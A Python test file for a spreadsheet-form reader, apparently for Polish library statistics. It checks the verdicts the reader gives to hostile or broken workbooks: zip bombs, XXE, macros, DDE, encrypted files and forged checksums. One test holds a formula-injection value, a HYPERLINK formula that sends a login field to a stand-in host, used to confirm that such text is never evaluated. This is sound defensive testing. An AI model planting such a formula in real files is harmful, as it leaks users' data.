"""The reader of returned workbooks: every hostile, broken or tampered file gets exactly its
verdict, good files give back exactly what was typed, nothing ever raises.

The corpus (tests/corpus/make_corpus.py) is built once per session from real generated
forms; LibreOffice makes the .ods/.pdf and the "saved by a spreadsheet app" variants.
"""

from __future__ import annotations

import io
import random
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from corpus.make_corpus import ACCEPTED, REJECTED, WARNED, base_library
from xl_afbp.verdicts import SKIPPED
from xl_afbp import status
from xl_afbp.demo import libreoffice
from xl_afbp.reader import convert as reader_convert, file as reader_file
from xl_afbp.cli import main as cli_main
from xl_afbp.formdata import FormData
from xl_afbp.generate import generate_batch, read_libraries
from xl_afbp.reader import CODES, Limits, Submission, read_many, read_submission
from xl_afbp.demo.simulate import simulate_form
from xl_afbp.workbook.fill import fill_form
from xl_afbp.workbook.form import units_for

SAMPLE_LIBS = Path(__file__).resolve().parents[1] / "xl_afbp" / "data" / "sample_libraries.csv"

#: kinds of bad input the issue asks for, by the file that carries each
REQUIRED = [
    "random_bytes", "truncated", "empty", "xls_renamed", "ods_renamed", "csv_renamed", "pdf_renamed",
    "encrypted", "xlsm_vba", "external_links", "zip_bomb_ratio", "zip_bomb_declared", "laughs_sst",
    "laughs_sheet", "xxe_sst", "xxe_sheet", "million_rows_dimension", "many_rows_streamed", "not_our_form",
    "edition_2017", "year_2015", "meta_missing", "meta_sha_altered", "formulas_replaced", "input_moved",
    "text_in_numbers", "negative_numbers", "hash_not_allowed", "fte_three_decimals", "money_with_grosze",
    "formula_like_names", "same_library_older", "id_conflict_a", "empty_form",
    # round two (issue 14)
    "text_lone_surrogate", "text_control_chars", "late_dtd_sheet", "late_dtd_sst", "damaged_workbook_xml",
    "forged_crc_workbook", "underscore_number", "arabic_digits_number", "sst_index_out_of_range", "unclosed_cells",
    "hash_with_spaces", "sheet_renamed", "webservice_input", "dde_input", "external_ref_input", "same_time_a",
    "future_time_new", "invisible_name_new", "id_impostor",
]  # fmt: skip
#: files of other kinds than .xlsx the corpus must hold
REQUIRED_OTHER = ["form_saved_as.ods", "form_saved_as.xls", "~$ok_openpyxl.xlsx", "pismo_przewodnie.docx", "wydruk.pdf"]
#: the corpus before issue 14 held 74 files; the issue asks for at least 30 more
ROUND_ONE = 74


@pytest.fixture(scope="session")
def read_corpus(corpus, engine):
    out, cases = corpus
    return {name: read_submission(out / name, engine=engine) for name in cases}


def _mismatches(cases, subs):
    return [f"{n}: expected {c.verdict}/{c.code}, got {subs[n].verdict}/{subs[n].code} ({subs[n].reason[:120]})" for n, c in cases.items() if (subs[n].verdict, subs[n].code) != (c.verdict, c.code)]


# ---------------------------------------------------------------------------- the corpus
def test_corpus_covers_every_required_kind_and_code(corpus):
    _, cases = corpus
    assert len({c.kind for c in cases.values()}) >= 30
    assert len(cases) >= ROUND_ONE + 30
    assert not [k for k in REQUIRED if f"{k}.xlsx" not in cases]
    assert not [f for f in REQUIRED_OTHER if f not in cases]
    for c in cases.values():
        assert CODES[c.code] == c.verdict, c
    used = {c.code for c in cases.values()}
    # every verdict of a single file that a file can earn is exercised, except the per-file
    # time limit (tested below with read_many), unexpected exceptions, and problems of the
    # coordinator's disk (a FIFO, a directory: tests/test_hostile_two.py)
    assert set(CODES) - used == {"timeout", "read_error", "local_error"}


def test_every_corpus_file_gets_exactly_its_verdict(corpus, read_corpus):
    _, cases = corpus
    assert _mismatches(cases, read_corpus) == []


def test_calamine_path_gives_the_same_verdicts_and_data(corpus, engine, read_corpus, monkeypatch):
    out, cases = corpus
    monkeypatch.setattr(reader_file, "FAST_PATH", False)
    slow = {n: read_submission(out / n, engine=engine) for n in cases if n != "big_but_legal.xlsx"}
    assert _mismatches({n: c for n, c in cases.items() if n in slow}, slow) == []
    for n, s in slow.items():
        assert s.data == read_corpus[n].data, n
        assert s.cached == read_corpus[n].cached, n
        assert s.meta == read_corpus[n].meta, n


def test_rejections_tell_the_library_what_to_do(read_corpus):
    for name, s in read_corpus.items():
        assert isinstance(s, Submission)
        assert s.name == name and s.path.name == name
        if s.verdict == REJECTED:
            assert s.data is None and s.cached == {}
            assert "prosimy" in s.reason, (name, s.reason)
        elif s.verdict == SKIPPED:
            assert s.data is None and s.reason.startswith("pominięty")
        elif s.verdict == WARNED:
            assert s.reason and s.reason in s.warnings
        else:
            assert s.reason == "" and s.warnings == []
        if s.size:
            assert len(s.sha256) == 64


def test_rejections_after_identification_keep_the_library(read_corpus):
    lib, _ = base_library()
    for name in ("empty_form.xlsx", "year_2015.xlsx", "input_name_deleted.xlsx"):
        s = read_corpus[name]
        assert s.verdict == REJECTED
        assert s.library_id == lib.id and s.meta["library_id"] == lib.id, name


def test_data_problems_are_listed_by_item(read_corpus):
    assert "poz. 4" in read_corpus["text_in_numbers.xlsx"].reason and "poz. 16" in read_corpus["text_in_numbers.xlsx"].reason
    assert "ujemna" in read_corpus["negative_numbers.xlsx"].reason
    assert "#" in read_corpus["hash_not_allowed.xlsx"].reason and "poz. 26" in read_corpus["hash_not_allowed.xlsx"].reason
    assert "poz. 22" in read_corpus["fte_three_decimals.xlsx"].reason and "miejsc po przecinku" in read_corpus["fte_three_decimals.xlsx"].reason
    assert "groszami" in read_corpus["money_with_grosze.xlsx"].reason
    assert "data" in read_corpus["date_in_number.xlsx"].reason
    # the values themselves are kept as the library typed them
    assert read_corpus["text_in_numbers.xlsx"].data.items[4] == "dużo"
    assert read_corpus["text_in_numbers.xlsx"].data.items[16] == "12 345"
    assert read_corpus["negative_numbers.xlsx"].data.items[7] == -5
    assert read_corpus["money_with_grosze.xlsx"].data.items[26] == 123456.78
    assert read_corpus["hash_not_allowed.xlsx"].data.items[26] == "#"


def test_library_text_never_becomes_a_formula(read_corpus):
    s = read_corpus["formula_like_names.xlsx"]
    assert s.verdict == ACCEPTED
    assert s.data.basic["NAZWA"] == '=HYPERLINK("http://zlo.example/?q="&B_LOGIN,"Kliknij")'
    assert s.data.basic["ORGANIZATOR"] == "@SUM(1+1)"


def test_moved_input_is_still_read_by_its_name(read_corpus):
    _, data = base_library()
    s = read_corpus["input_moved.xlsx"]
    assert s.data.items[4] == data.items[4]
    assert "P_04" in s.reason


def test_tampering_is_noted_and_values_come_from_the_inputs(read_corpus):
    s = read_corpus["formulas_replaced.xlsx"]
    assert s.verdict == WARNED
    assert any("nie zgadzają się z przeliczeniem" in w for w in s.warnings)  # the typed 12.5s
    assert all(v == 12.5 for v in s.cached.values()) and len(s.cached) == 5
    pasted = read_corpus["formulas_pasted_as_values.xlsx"]
    assert len(pasted.warnings) == 1  # the pasted numbers are the right ones: no mismatch
    assert read_corpus["cached_mismatch.xlsx"].warnings == [read_corpus["cached_mismatch.xlsx"].reason]


def test_saved_at_orders_two_files_of_one_library(read_corpus):
    old, new = read_corpus["same_library_older.xlsx"], read_corpus["same_library_newer.xlsx"]
    assert old.library_id == new.library_id
    assert old.saved_at is not None and new.saved_at is not None and old.saved_at < new.saved_at
    assert read_corpus["copy_a.xlsx"].sha256 == read_corpus["copy_b.xlsx"].sha256


def test_batch_level_cases_carry_the_consolidators_expected_status(corpus, read_corpus):
    _, cases = corpus
    groups = {}
    for c in cases.values():
        if c.batch_level:
            groups.setdefault(c.group, []).append(c)
            assert c.final_verdict is not None
    assert {c.final_code for c in groups["same_library"]} == {"superseded", None}
    assert {c.final_code for c in groups["identical_copy"]} == {"duplicate", None}
    assert [c.final_code for c in groups["id_conflict"]] == ["id_conflict", "id_conflict"]
    a, b = (read_corpus[c.file] for c in groups["id_conflict"])
    assert a.library_id == b.library_id
    assert (a.meta["teryt"], a.data.basic["NAZWA"]) != (b.meta["teryt"], b.data.basic["NAZWA"])


# ---------------------------------------------------------------------------- good files
@pytest.fixture(scope="session")
def typed(tmp_path_factory, engine):
    """Two libraries (4 and 10 K-03 unit columns) typed with openpyxl, and the same files
    saved by LibreOffice (cached values, shared strings): (typed data, [files])."""
    out = tmp_path_factory.mktemp("typed")
    libs, _ = read_libraries(SAMPLE_LIBS)
    chosen = [libs[4], libs[1]]  # 3 branches; 9 branches → 10 unit columns
    assert units_for(chosen[1].filie) == 10
    paths = generate_batch(chosen, out / "gen", progress=False, workers=1)
    result = []
    for lib, path in zip(chosen, paths):
        data = simulate_form(lib.mieszkancy, lib.filie, seed=lib.id, podtyp=lib.podtyp, organizator=lib.organizator, www=lib.www or None, nazwa=lib.nazwa)
        data.basic["MIEJSCOWOSC"] = "Łódź ' & <Żółw> \"cudzysłów\"  "  # XML escapes, trailing spaces
        result.append((data, fill_form(path, data, out / f"{lib.id}-typed.xlsx")))
    saved = libreoffice.recalculate([p for _, p in result], out / "lo", workers=2)
    return [(data, path, saved[path]) for data, path in result]


def _assert_read_back(sub: Submission, data: FormData, units: int) -> None:
    got = sub.data
    assert got is not None
    for nr, v in data.items.items():
        assert got.items[nr] == v and type(got.items[nr]) is type(v), (nr, v, got.items[nr])
    assert {k: v for k, v in got.services.items() if v is not None} == {k: v for k, v in data.services.items() if v is not None}
    for key, v in data.basic.items():
        assert got.basic[key] == v, key
    for address, row in data.k03.items():
        read = list(got.k03[address])
        assert len(read) == units
        assert read[: len(row)] == list(row) and all(v is None for v in read[len(row) :]), address
    assert set(data.k03) <= set(got.k03)
    assert all(v is None for v in got.previous.values())


def test_typed_forms_are_read_back_exactly(typed, engine):
    for data, openpyxl_file, lo_file in typed:
        units = len(next(iter(data.k03.values())))
        units = units_for(units - 1)
        a = read_submission(openpyxl_file, engine=engine)
        b = read_submission(lo_file, engine=engine)
        assert (a.verdict, a.code) == (ACCEPTED, "ok"), a.reason
        assert (b.verdict, b.code) == (ACCEPTED, "ok"), b.reason
        _assert_read_back(a, data, units)
        _assert_read_back(b, data, units)
        assert a.data == b.data
        assert a.cached == {}  # openpyxl keeps no computed results
        computed = engine.values(data)
        assert set(b.cached) == {f.name for f in engine.formulas}
        assert all(reader_convert._same(v, computed[n]) for n, v in b.cached.items())
        assert a.meta["units"] == units and a.library_id == a.meta["library_id"]


def test_fast_and_calamine_paths_agree_on_typed_forms(typed, engine, monkeypatch):
    fast = [read_submission(p, engine=engine) for _, a, b in typed for p in (a, b)]
    monkeypatch.setattr(reader_file, "FAST_PATH", False)
    slow = [read_submission(p, engine=engine) for _, a, b in typed for p in (a, b)]
    for f, s in zip(fast, slow):
        assert (f.code, f.data, f.cached, f.meta, f.saved_at) == (s.code, s.data, s.cached, s.meta, s.saved_at)


# ---------------------------------------------------------------------------- read_many
def test_read_many_keeps_order_and_matches_read_submission(corpus, read_corpus):
    out, cases = corpus
    names_ = [n for n in sorted(cases) if n != "big_but_legal.xlsx"]
    random.Random(3).shuffle(names_)
    subs = read_many([out / n for n in names_], workers=2, progress=False)
    assert [s.name for s in subs] == names_
    assert [(s.verdict, s.code, s.data) for s in subs] == [(read_corpus[n].verdict, read_corpus[n].code, read_corpus[n].data) for n in names_]


@pytest.mark.parametrize("workers", [2, 1])
def test_a_file_over_the_time_limit_is_rejected_and_the_batch_goes_on(corpus, workers):
    out, _ = corpus
    files = [out / "ok_openpyxl.xlsx", out / "big_but_legal.xlsx", out / "encrypted.xlsx", out / "ok_raw_typed.xlsx"]
    subs = read_many(files, limits=Limits(seconds=0.3), workers=workers, progress=False)
    assert [s.code for s in subs] == ["ok", "timeout", "encrypted", "ok"]
    assert subs[1].verdict == REJECTED and "0,3 s" in subs[1].reason and subs[1].sha256
    assert read_many([out / "big_but_legal.xlsx"], workers=1, progress=False)[0].code == "ok"  # default: 10 s


def test_limits_are_configurable(corpus):
    out, _ = corpus
    assert read_submission(out / "ok_openpyxl.xlsx", limits=Limits(max_file_bytes=50_000)).code == "too_large"
    assert read_submission(out / "ok_openpyxl.xlsx", limits=Limits(max_uncompressed=500_000)).code == "zip_bomb"
    assert read_submission(out / "ok_openpyxl.xlsx", limits=Limits(max_entries=10)).code == "too_many_entries"
    assert read_submission(out / "ok_openpyxl.xlsx", limits=Limits(max_rows_per_sheet=50)).code == "too_many_rows"


def test_paths_that_are_not_files(tmp_path):
    """A missing file or a directory is a problem on the coordinator's side, not the library's."""
    for path in (tmp_path / "nie-ma.xlsx", tmp_path):
        s = read_submission(path)
        assert s.code == "local_error" and "koordynatora" in s.reason
    assert read_many([], progress=False) == []


# ---------------------------------------------------------------------------- properties
@pytest.fixture(scope="session")
def valid_bytes(corpus):
    out, _ = corpus
    return (out / "ok_openpyxl.xlsx").read_bytes()


@st.composite
def mutations(draw, size: int):
    ops = []
    for _ in range(draw(st.integers(1, 4))):
        kind = draw(st.sampled_from(["flip", "insert", "delete", "truncate", "tail"]))
        pos = draw(st.floats(0, 1, exclude_max=True))
        ops.append((kind, pos, draw(st.integers(0, 255)), draw(st.binary(min_size=1, max_size=16))))
    return ops


def _mutate(data: bytes, ops) -> bytes:
    buf = bytearray(data)
    for kind, pos, byte, blob in ops:
        if not buf:
            break
        i = int(pos * len(buf))
        if kind == "tail":  # the central directory and end record live at the end
            i = len(buf) - 1 - int(pos * min(len(buf), 3000))
        if kind in ("flip", "tail"):
            buf[i] ^= byte or 1
        elif kind == "insert":
            buf[i:i] = blob
        elif kind == "delete":
            del buf[i : i + len(blob)]
        else:
            del buf[i:]
    return bytes(buf)


def _assert_verdict(sub: Submission) -> None:
    assert isinstance(sub, Submission)
    assert sub.verdict in (ACCEPTED, WARNED, REJECTED)
    assert CODES[sub.code] == sub.verdict
    assert (sub.reason != "") == (sub.verdict != ACCEPTED)
    assert (sub.data is None) == (sub.verdict == REJECTED)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(data=st.data())
def test_random_byte_mutations_never_crash_the_reader(valid_bytes, tmp_path_factory, engine, data):
    ops = data.draw(mutations(len(valid_bytes)))
    path = tmp_path_factory.getbasetemp() / "mutated.xlsx"
    path.write_bytes(_mutate(valid_bytes, ops))
    _assert_verdict(read_submission(path, engine=engine))


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(data=st.data())
def test_mutated_xml_inside_a_valid_zip_never_crashes_the_reader(valid_bytes, tmp_path_factory, engine, data):
    """Byte mutations of the decompressed XML (CRCs stay right): the XML paths are hit."""
    with zipfile.ZipFile(io.BytesIO(valid_bytes)) as zf:
        items = [(i.filename, zf.read(i)) for i in zf.infolist()]
    target = data.draw(st.sampled_from(["xl/workbook.xml", "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml", "xl/worksheets/sheet4.xml", "xl/worksheets/sheet9.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"]))
    ops = data.draw(mutations(0))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, content in items:
            zf.writestr(name, _mutate(content, ops) if name == target else content)
    path = tmp_path_factory.getbasetemp() / "mutated-xml.xlsx"
    path.write_bytes(buf.getvalue())
    _assert_verdict(read_submission(path, engine=engine))


VALUES = st.one_of(
    st.none(),
    st.text(max_size=12),
    st.sampled_from(["#", "TAK", "NIE", "tak", "", " ", "=1+1", "@x", "1,5", "NaN"]),
    st.integers(-(10**15), 10**15),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from([1e300, -1e300, 1.7e308, 5e-324, 0.1 + 0.2, 2.675, 10**12 + 0.5]),
    st.booleans(),
)


def _form_strategy(spec):
    numeric = [i.nr for i in spec.numeric_items]
    return st.builds(
        FormData,
        items=st.dictionaries(st.sampled_from(numeric), VALUES),
        services=st.dictionaries(st.sampled_from([s.nr for s in spec.services]), VALUES),
        basic=st.dictionaries(st.sampled_from([b.key for b in spec.basic]), VALUES),
        previous=st.dictionaries(st.sampled_from(numeric), VALUES),
        k03=st.dictionaries(st.sampled_from([c.address for c in spec.k03_cells]), st.lists(VALUES, max_size=12)),
    )


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@example(data=FormData(k03={"D6.P1.W1": [1.7e308, 1.7e308]}))
@given(data=st.data())
def test_engine_evaluate_never_raises_on_any_values(engine, data):
    form = data.draw(_form_strategy(engine.spec)) if not isinstance(data, FormData) else data
    result = engine.evaluate(form)
    assert result.status in status.CODES
    assert all(v is None or isinstance(v, float) for v in result.indicators.values())


def test_engine_survives_ints_beyond_a_float(engine):
    result = engine.evaluate(FormData(items={4: 10**400, 1: 5000}, k03={"D6.P1.W1": [10**400]}))
    assert result.indicators["Z01"] is None


# ---------------------------------------------------------------------------- xl-afbp check
def test_check_exit_codes(corpus, capsys):
    out, _ = corpus
    assert cli_main(["check", str(out / "ok_openpyxl.xlsx"), str(out / "text_in_numbers.xlsx")]) == 0
    text = capsys.readouterr().out
    assert "przyjęty z uwagami" in text and "invalid_values" in text and "L11" in text
    assert cli_main(["check", str(out / "ok_openpyxl.xlsx"), str(out / "encrypted.xlsx")]) == 1
    assert "plik zaszyfrowany hasłem" in capsys.readouterr().out
    assert cli_main(["check", str(out / "nie-ma-takiego.xlsx")]) == 2
    with pytest.raises(SystemExit) as exc:
        cli_main(["check"])
    assert exc.value.code == 2


def test_check_command_as_a_process_with_json(corpus):
    out, _ = corpus
    proc = subprocess.run([sys.executable, "-m", "xl_afbp.cli", "check", "--json", str(out / "macro_content_type.xlsx"), str(out / "ok_raw_typed.xlsx")], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1, proc.stderr
    import json

    rows = json.loads(proc.stdout)
    assert [(r["verdict"], r["code"]) for r in rows] == [(REJECTED, "macro"), (ACCEPTED, "ok")]


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # the swallowed exception, by design
def test_a_timeout_swallowed_by_a_gc_callback_still_rejects_the_file(corpus):
    """The in-process time limit raises from a signal handler; when the signal lands in a
    garbage-collector callback (hypothesis installs one) Python prints and drops the
    exception, and the file was read as "ok" (seen in the full suite). A callback that
    swallows the exception the same way proves the verdict no longer depends on it."""
    import gc
    import signal
    import time as _time

    out, _ = corpus

    slept: list[bool] = []

    def slow_callback(phase, info):  # noqa: ARG001 - gc's signature
        if phase == "start" and not slept and signal.getitimer(signal.ITIMER_REAL)[0] > 0:  # the first collection while reading
            slept.append(True)
            _time.sleep(0.2)  # the 0.01 s alarm fires in here

    gc.callbacks.append(slow_callback)
    try:
        subs = read_many([out / "big_but_legal.xlsx"], limits=Limits(seconds=0.01), workers=1, progress=False)
    finally:
        gc.callbacks.remove(slow_callback)
    assert subs[0].code == "timeout"


# ------------------------------------------------------------------ the shipped editions' hashes
def test_the_reader_knows_every_shipped_edition_by_its_hash():
    """``_known_editions`` maps the hash of every shipped edition to its year and version
    (after the move into the reader package it looked in ``xl_afbp/reader/editions`` and
    knew none). Computed independently here: the YAML files of each edition folder."""
    from xl_afbp.reader.contract import _known_editions
    from xl_afbp.spec.load import load_spec

    root = Path(__file__).resolve().parents[1] / "xl_afbp" / "editions"
    folders = sorted(p for p in root.iterdir() if p.is_dir())
    assert folders
    known = _known_editions()
    for folder in folders:
        spec = load_spec(folder)
        assert known.get(spec.digest) == (spec.edition.year, spec.edition.spec_version), folder.name
    assert len(known) == len(folders)


def test_a_shipped_editions_hash_names_it_whatever_the_stamp_says(tmp_path, engine):
    """Read with another edition's engine (the test edition 2099), a 2016 form whose stamp
    was edited to say 2099 / 0.9.0 is still recognised by its hash: "another edition, AFBP
    2016, wersja 2.0.0" – not an accusation of a forged checksum."""
    from openpyxl import load_workbook

    from xl_afbp.engine import Engine
    from xl_afbp.spec.load import load_spec
    from xl_afbp.workbook.form import FormContent, FormOptions, Library
    from xl_afbp.workbook.template import FormTemplate

    mini = Engine(load_spec(Path(__file__).parent / "editions" / "afbp-mini.yaml"))
    form = FormTemplate(engine, FormOptions(units=units_for(0), personalised=True)).render(FormContent(library=Library(id="T-1"), year=2016), tmp_path / "form.xlsx")
    wb = load_workbook(form)
    for row in wb["_meta"].iter_rows(min_row=2):
        if row[0].value in ("edition_year", "year"):
            row[1].value = mini.spec.edition.year
        elif row[0].value == "spec_version":
            row[1].value = mini.spec.edition.spec_version
    wb.save(tmp_path / "stamped.xlsx")
    s = read_submission(tmp_path / "stamped.xlsx", engine=mini)
    assert (s.verdict, s.code) == ("rejected", "wrong_edition"), s.reason
    assert f"AFBP {engine.spec.edition.year}, wersja {engine.spec.edition.spec_version}" in s.reason
